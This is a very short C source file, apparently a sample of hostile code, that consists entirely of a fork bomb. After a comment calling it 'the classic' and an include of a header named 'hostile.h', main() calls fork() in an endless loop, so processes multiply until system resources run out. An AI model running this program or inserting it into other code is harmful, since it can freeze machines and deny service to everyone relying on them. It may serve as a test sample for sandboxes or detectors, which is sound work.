// The classic: every process forks for ever.
#include "hostile.h"

int main(void) {
    for (;;) fork();
}
